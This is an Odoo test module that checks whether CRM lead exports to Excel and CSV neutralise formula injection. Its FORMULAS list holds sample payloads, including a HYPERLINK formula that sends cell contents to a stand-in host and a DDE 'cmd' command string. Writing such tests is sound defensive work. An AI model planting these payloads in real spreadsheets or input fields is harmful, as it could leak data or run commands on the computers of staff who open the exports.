# Copyright 2026 crm_lead_api maintainers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""What a caller sends does nothing in the spreadsheet that staff export."""

import csv
import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import tagged

from .common import LeadApiHttpCase

FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1, "x")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
)


@tagged("post_install", "-at_install")
class TestExport(LeadApiHttpCase):
    def _export(self, kind, **options):
        self.authenticate(self.agent.login, self.agent.login)
        data = {
            "model": "crm.lead",
            "fields": [
                {"name": name, "label": name, "type": "char"}
                for name in ("contact_name", "street", "facebook_account")
            ],
            "ids": self.leads.ids,
            "domain": [],
            "groupby": [],
            "context": {},
            "import_compat": False,
            **options,
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def setUp(self):
        super().setUp()
        self.agent.group_ids += self.env.ref("base.group_allow_export")
        self.leads = self.env["crm.lead"]
        for text in FORMULAS:
            payload = {**self.payload, "phone_no1": "0", "street": text}
            self.leads |= self.assertSuccess(
                self.post({**payload, "contact_name": text, "facebook_acc": text})
            )

    def _get_cells(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value]

    def test_excel(self):
        cells = self._get_cells(self._export("xlsx"))
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        texts = [cell.value for cell in cells]
        for text in FORMULAS:
            self.assertEqual(texts.count(text), 3, text)

    def test_excel_in_groups(self):
        content = self._export("xlsx", groupby=["street"], ids=False)
        cells = self._get_cells(content)
        formulas = [cell.value for cell in cells if cell.data_type == "f"]
        self.assertFalse(formulas)
        self.assertIn(FORMULAS[0], [cell.value for cell in cells])

    def test_csv(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode())))
        values = [value for row in rows[1:] for value in row]
        self.assertEqual(len(values), 3 * len(FORMULAS))
        for value in values:
            self.assertNotIn(value[0], "=+-@")
